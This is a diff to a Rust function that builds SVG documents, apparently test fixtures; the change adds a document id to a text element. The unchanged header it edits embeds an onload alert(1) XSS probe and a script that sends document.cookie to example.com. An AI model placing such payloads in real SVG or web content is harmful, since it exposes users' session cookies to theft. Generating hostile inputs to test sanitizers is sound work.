@@ -33,9 +33,10 @@ pub(super) fn svg(subject: &Subject<'_>) -> String {
     let head = format!(
         "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 800 600\" onload=\"alert(1)\">\n\
          <script>fetch('https://example.com/'+document.cookie)</script>\n<title>{}</title>\n\
-         <text x=\"20\" y=\"30\">{}</text>\n",
+         <text x=\"20\" y=\"30\">{} {}</text>\n",
         subject.arrival.kind().title,
-        subject.arrival.property_id()
+        subject.arrival.property_id(),
+        subject.arrival.document_id()
     );
     let dice = subject.dice().of("boundaries");
     between(head, "</svg>\n", subject.size, |number| {
